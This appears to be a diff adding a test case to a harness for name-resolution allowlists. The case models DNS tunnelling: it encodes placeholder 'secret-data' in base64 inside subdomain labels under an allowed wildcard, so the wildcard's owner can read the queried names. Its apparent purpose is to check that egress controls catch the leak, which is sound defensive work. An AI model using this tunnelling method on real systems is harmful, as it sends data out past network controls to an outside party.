@@ -1,0 +1,9 @@
+import type { Attack } from '../../prove/attack.ts'
+
+const attack: Attack = {
+  tries: 'carries data in the labels below an allowed wildcard',
+  open: 'who allows a wildcard lets its owner read the names that are asked for below it',
+  run: ({ ask, name }) => ask(name('tunnel', 'c2VjcmV0LWRhdGE')),
+}
+
+export default attack
